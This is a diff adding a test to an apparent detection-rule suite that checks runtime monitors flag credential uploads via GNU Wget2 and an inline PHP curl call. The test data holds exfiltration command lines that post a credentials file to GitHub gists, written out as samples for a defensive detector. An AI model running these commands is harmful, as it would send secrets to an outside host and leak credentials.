@@ -54,6 +54,17 @@ describe('uploads hidden in curl globs and wget commands', () => {
       expect(await alertsOf('wget-execute', wget, put, form)).toEqual([gist('wget')]);
     });
 
+    it(`GNU Wget2 posting a file is high; its download is quiet (${form})`, async () => {
+      // Evasion hunt, round 3: Fedora's `wget` is a link to wget2 since Fedora 40, which Falco names by the file
+      // it resolves to (Tetragon by the link); run as wget2 in either, no entry knew it.
+      const wget2 = '/usr/bin/wget2';
+      expect(
+        await alertsOf('wget2-post', wget2, `-qO- --post-file=${CREDS} https://api.github.com/gists`, form),
+      ).toEqual([gist('wget')]);
+      const get = '-q https://api.github.com/repos/acme/app/tarball';
+      expect(await alertsOf('wget2-get', wget2, get, form)).toEqual([]);
+    });
+
     it(`an inline PHP curl upload and an R one are high (${form})`, async () => {
       // Found by red-team review: CURLOPT_POSTFIELDS named no writing verb as a word, and R was no interpreter.
       const php = `-r '$c=curl_init("https://api.github.com/gists");curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents("${CREDS}"));curl_exec($c);'`;
